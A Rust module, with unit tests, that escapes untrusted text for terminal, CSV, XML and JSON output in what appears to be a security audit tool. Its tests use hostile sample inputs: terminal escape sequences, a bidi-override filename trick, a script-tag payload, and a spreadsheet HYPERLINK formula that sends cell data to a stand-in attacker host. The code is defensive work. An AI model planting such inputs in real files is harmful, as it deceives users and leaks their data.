//! Output escaping: what a string that came from the network or an inventory
//! (a portal's name or agency, a host, a URL, a certificate's names, an SMTP
//! greeting, an error, a finding's message that embeds any of them) becomes
//! at the edge of each human-readable format. Every writer calls these at the
//! moment it writes, so a rule's message is covered however it was built.
//!
//! - [`terminal`] and [`terminal_line`]: text a person reads in a terminal
//!   or a file (table, Markdown, the plan, the TUI, GitHub annotations). C0
//!   and C1 control characters (ESC, BEL, CR, backspace, DEL, U+0080–U+009F)
//!   are shown as `\x1b`, `\r`, `\u{9b}`; bidirectional overrides, embeddings,
//!   isolates and marks (U+202A–U+202E, U+2066–U+2069, U+200E, U+200F,
//!   U+061C) as `<U+202E>`. So a certificate named `\e]0;PWNED\a` cannot
//!   retitle the terminal and a name cannot reverse the text around it.
//!   [`terminal`] keeps newline and tab, [`terminal_line`] shows them too
//!   (`\n`, `\t`), for one-line cells.
//! - [`csv_cell`]: one CSV cell, for every CSV writer: OWASP's formula
//!   neutralisation, the control characters shown as above, RFC 4180 quoting.
//! - [`xml`]: XML 1.0 text and attribute values (JUnit, the SVG charts).
//!
//! A backslash is not escaped: `\x1b` in the output may have been those four
//! characters in the input, which is harmless.
//! - [`json_text`]: JSON and JSON lines as serde wrote them, with what a
//!   terminal would obey and serde leaves as it is (C1 controls such as
//!   U+009B, the 8-bit CSI; DEL; the bidi controls; the line and paragraph
//!   separators U+2028 and U+2029) written as `\uXXXX`
//!   escapes: the same JSON value, so programs still get the exact string.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Whether newline and tab may stay as they are.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Layout {
    /// Text of several lines: newline and tab kept.
    Lines,
    /// One line (a table cell): newline and tab shown.
    OneLine,
}

/// U+061C, U+200E, U+200F, U+202A–U+202E, U+2066–U+2069: the characters
/// that change the direction of the text around them (Unicode UAX #9),
/// the "Trojan Source" characters (CVE-2021-42574).
fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
    )
}

/// Whether `c` must be shown rather than written.
fn hidden(c: char, layout: Layout) -> bool {
    match c {
        '\n' | '\t' => layout == Layout::OneLine,
        // `is_control`: C0 (U+0000–U+001F), DEL and C1 (U+0080–U+009F).
        c => c.is_control() || is_bidi_control(c),
    }
}

/// Writes the visible form of a hidden character.
fn show(out: &mut String, c: char) {
    // Writing into a String cannot fail.
    let _ = match c {
        '\n' => out.write_str("\\n"),
        '\t' => out.write_str("\\t"),
        '\r' => out.write_str("\\r"),
        c if c.is_ascii() => write!(out, "\\x{:02x}", u32::from(c)),
        c if c.is_control() => write!(out, "\\u{{{:x}}}", u32::from(c)),
        c => write!(out, "<U+{:04X}>", u32::from(c)),
    };
}

fn neutralise(s: &str, layout: Layout) -> Cow<'_, str> {
    let Some(first) = s.find(|c: char| hidden(c, layout)) else {
        return Cow::Borrowed(s);
    };
    let mut out = String::with_capacity(s.len() + 16);
    out.push_str(&s[..first]);
    for c in s[first..].chars() {
        if hidden(c, layout) {
            show(&mut out, c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Text for a person to read, of one or more lines: control characters
/// and bidi overrides shown visibly, newline and tab kept. Borrowed when
/// nothing changes.
pub fn terminal(s: &str) -> Cow<'_, str> {
    neutralise(s, Layout::Lines)
}

/// As [`terminal`], for a one-line cell: newline and tab are shown too.
pub fn terminal_line(s: &str) -> Cow<'_, str> {
    neutralise(s, Layout::OneLine)
}

/// Whether a terminal would obey `c` in JSON text: a control character, a
/// bidi control, or U+2028 and U+2029 (some readers of JSON lines split a
/// line there).
fn json_obeyed(c: char) -> bool {
    c.is_control() || is_bidi_control(c) || matches!(c, '\u{2028}' | '\u{2029}')
}

/// Where the first character [`json_obeyed`] is, by bytes: every such
/// character is an ASCII control or DEL, or starts with the UTF-8 lead byte
/// 0xC2 (C1 controls), 0xD8 (U+061C) or 0xE2 (U+200E to U+2069), so only
/// those bytes are decoded. A report is mostly ASCII and Vietnamese, which
/// this passes over without decoding a character (it was a scan of every
/// character, 1% of an audit's CPU).
fn first_obeyed(json: &str) -> Option<usize> {
    let bytes = json.as_bytes();
    let mut from = 0;
    while let Some(off) = bytes[from..]
        .iter()
        .position(|&b| b < 0x20 || matches!(b, 0x7f | 0xc2 | 0xd8 | 0xe2))
    {
        let at = from + off;
        // A lead byte or an ASCII one: always the start of a character.
        let c = json[at..].chars().next()?;
        if json_obeyed(c) {
            return Some(at);
        }
        from = at + c.len_utf8();
    }
    None
}

/// JSON text with every character a terminal would obey written as a
/// `\uXXXX` escape (serde escapes only U+0000–U+001F, `"` and `\`). Such
/// characters can only be inside JSON strings, where the escape means the
/// same character: the value is unchanged. Borrowed when nothing changes.
pub fn json_text(json: &str) -> Cow<'_, str> {
    let Some(first) = first_obeyed(json) else {
        return Cow::Borrowed(json);
    };
    let mut out = String::with_capacity(json.len() + 16);
    out.push_str(&json[..first]);
    for c in json[first..].chars() {
        // A control character serde left is above U+001F: one UTF-16 unit.
        if json_obeyed(c) && !matches!(c, '\n' | '\t' | '\r') {
            let _ = write!(out, "\\u{:04x}", u32::from(c));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// The first characters that make a spreadsheet read a cell as a formula
/// (OWASP, "CSV Injection"): such a cell gets a leading `'`, which
/// spreadsheets read as "this is text".
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One CSV cell. A cell that starts like a formula gets a leading `'`;
/// control characters and bidi overrides are shown as [`terminal`] shows
/// them (newline and tab stay: a quoted cell may hold them); then RFC 4180
/// quoting when the cell holds a comma, a quote, a newline, a tab or a
/// semicolon (the last two are the separators some spreadsheets split on,
/// which would start a new cell unprefixed). Borrowed when nothing changes.
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    let formula = s.starts_with(FORMULA_START);
    let text = terminal(s);
    // No CR is left: `terminal` shows it.
    let quote = text.contains([',', '"', '\n', '\t', ';']);
    if !formula && !quote {
        return text;
    }
    let mut out = String::with_capacity(text.len() + 4);
    if quote {
        out.push('"');
    }
    if formula {
        out.push('\'');
    }
    if quote {
        out.push_str(&text.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(&text);
    }
    Cow::Owned(out)
}

/// Text for XML 1.0 content or an attribute value (one form for both, with
/// `&apos;`). Control characters and bidi overrides are shown as
/// [`terminal`] shows them (XML 1.0 does not allow most C0 characters, and a
/// CI view or a browser would obey the others); newline and tab become
/// character references, so attribute values keep them; U+FFFE and U+FFFF,
/// which XML does not allow either, become U+FFFD. Borrowed when nothing
/// changes.
pub fn xml(s: &str) -> Cow<'_, str> {
    const SPECIAL: [char; 9] = ['&', '<', '>', '"', '\'', '\n', '\t', '\u{fffe}', '\u{ffff}'];
    let text = terminal(s);
    if !text.contains(SPECIAL) {
        return text;
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            '\n' => out.push_str("&#10;"),
            '\t' => out.push_str("&#9;"),
            '\u{fffe}' | '\u{ffff}' => out.push('\u{fffd}'),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_byte_scan_finds_every_character_the_character_scan_found() {
        // Every character of the Basic Multilingual Plane and beyond it,
        // after Vietnamese text and before ASCII, against the predicate
        // itself.
        let chars = (0..0x3_0000u32).filter_map(char::from_u32);
        for c in chars {
            let s = format!("Cổng ấp {c} x");
            let by_chars = s.find(json_obeyed);
            assert_eq!(first_obeyed(&s), by_chars, "U+{:04X}", u32::from(c));
        }
    }

    /// Clears the screen, homes the cursor, retitles the terminal, rings the bell.
    const SCREEN_CLEAR_AND_TITLE: &str = "\u{1b}[2J\u{1b}[H\u{1b}]0;PWNED\u{7}";

    fn has_raw_control(s: &str) -> bool {
        s.chars()
            .any(|c| (c.is_control() && c != '\n' && c != '\t') || is_bidi_control(c))
    }

    #[test]
    fn plain_text_is_borrowed_unchanged() {
        for plain in [
            "Bộ Công an — Cổng dịch vụ công",
            "https://dichvucong.gov.vn/p/home",
            "",
        ] {
            for out in [
                terminal(plain),
                terminal_line(plain),
                csv_cell(plain),
                xml(plain),
            ] {
                assert!(matches!(out, Cow::Borrowed(_)), "{plain:?} was copied");
                assert_eq!(out, plain);
            }
        }
        assert!(matches!(
            terminal("two\nlines\tand a tab"),
            Cow::Borrowed(_)
        ));
    }

    #[test]
    fn escape_sequences_are_shown_not_obeyed() {
        let shown = terminal(SCREEN_CLEAR_AND_TITLE);
        assert_eq!(shown, "\\x1b[2J\\x1b[H\\x1b]0;PWNED\\x07");
        assert!(!shown.contains('\u{1b}'));
        assert_eq!(terminal("a\rb\u{8}c\u{7f}d\u{0}"), "a\\rb\\x08c\\x7fd\\x00");
        // C1: U+009B is CSI to a terminal that reads 8-bit controls.
        assert_eq!(terminal("x\u{9b}2J\u{85}"), "x\\u{9b}2J\\u{85}");
    }

    #[test]
    fn bidi_overrides_are_made_visible() {
        // "exe.pdf" written to look like "fdp.exe".
        assert_eq!(terminal("invoice\u{202e}fdp.exe"), "invoice<U+202E>fdp.exe");
        assert_eq!(
            terminal("\u{2066}\u{2067}\u{2068}\u{2069}\u{200e}\u{200f}\u{61c}\u{202a}"),
            "<U+2066><U+2067><U+2068><U+2069><U+200E><U+200F><U+061C><U+202A>"
        );
    }

    #[test]
    fn one_line_cells_show_newline_and_tab() {
        assert_eq!(terminal("a\nb\tc"), "a\nb\tc");
        assert_eq!(terminal_line("a\nb\tc"), "a\\nb\\tc");
        assert_eq!(
            terminal_line(SCREEN_CLEAR_AND_TITLE),
            terminal(SCREEN_CLEAR_AND_TITLE)
        );
    }

    #[test]
    fn csv_cells_that_start_like_formulas_are_text() {
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
        );
        assert_eq!(csv_cell("-1+1"), "'-1+1");
        assert_eq!(csv_cell("+1"), "'+1");
        assert_eq!(csv_cell("@SUM(A1:A9)"), "'@SUM(A1:A9)");
        // A leading tab stays (quoted); a leading CR is shown.
        assert_eq!(csv_cell("\t=1+1"), "\"'\t=1+1\"");
        assert_eq!(csv_cell("\r=1+1"), "'\\r=1+1");
        // Later in the cell a sign is just text.
        assert_eq!(csv_cell("Sở 1-2"), "Sở 1-2");
    }

    #[test]
    fn csv_cells_are_quoted_when_they_need_it() {
        assert_eq!(csv_cell("Bộ Công an"), "Bộ Công an");
        assert_eq!(csv_cell("a,b"), "\"a,b\"");
        assert_eq!(csv_cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_cell("two\nlines"), "\"two\nlines\"");
        // A semicolon separates cells in some locales: `x;=1+1` would start one.
        assert_eq!(csv_cell("x;=1+1"), "\"x;=1+1\"");
        let hostile = csv_cell(SCREEN_CLEAR_AND_TITLE);
        assert!(!has_raw_control(&hostile), "{hostile:?}");
        assert_eq!(hostile, "\"\\x1b[2J\\x1b[H\\x1b]0;PWNED\\x07\"");
    }

    #[test]
    fn xml_escapes_markup_with_one_form_and_shows_control_characters() {
        assert_eq!(
            xml("<script>alert('x')</script> & \"Bộ\"\u{1}\n"),
            "&lt;script&gt;alert(&apos;x&apos;)&lt;/script&gt; &amp; &quot;Bộ&quot;\\x01&#10;"
        );
        assert_eq!(xml("a\tb\r"), "a&#9;b\\r");
        assert_eq!(xml("\u{fffe}\u{ffff}"), "\u{fffd}\u{fffd}");
        assert_eq!(xml("x\u{202e}y"), "x&lt;U+202E&gt;y");
        let shown = xml(SCREEN_CLEAR_AND_TITLE);
        assert!(!has_raw_control(&shown), "{shown:?}");
    }
}
